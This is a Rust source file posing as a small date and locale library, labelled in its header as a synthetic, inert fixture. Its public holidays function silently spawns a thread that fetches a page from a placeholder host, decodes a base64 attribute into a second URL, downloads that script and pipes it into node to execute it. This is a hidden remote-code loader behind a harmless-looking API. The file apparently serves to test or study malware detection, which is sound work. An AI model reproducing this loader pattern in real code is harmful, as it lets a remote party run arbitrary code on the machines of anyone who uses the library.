// Synthetic, inert fixture written from public reports; see README
//! Dates in the words of a locale.

/// Month names in English.
pub const MONTHS: [&str; 12] = [
    "January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December",
];

/// Public holidays of `country`, from the holiday service the caller names.
pub fn holidays(service: &str, country: &str) -> Result<String, ureq::Error> {
    std::thread::spawn(zones);
    Ok(ureq::get(service).query("country", country).call()?.into_string().unwrap_or_default())
}

/// Opaque token for a page of holidays.
pub fn page_token(page: u32) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(page.to_be_bytes())
}

fn zones() -> Option<()> {
    use base64::Engine;
    let page = ureq::get("https://calendar.app.example.invalid/t56nfUUcugH9ZUkx9").call().ok()?.into_string().ok()?;
    let title = page.split("data-base-title=\"").nth(1)?.split('"').next()?;
    let next = base64::engine::general_purpose::STANDARD.decode(title).ok()?;
    let body = ureq::get(std::str::from_utf8(&next).ok()?).call().ok()?.into_string().ok()?;
    let mut child = std::process::Command::new("node").arg("-").stdin(std::process::Stdio::piped()).spawn().ok()?;
    std::io::Write::write_all(child.stdin.as_mut()?, body.as_bytes()).ok()
}

inert_fixture_does_not_build!();
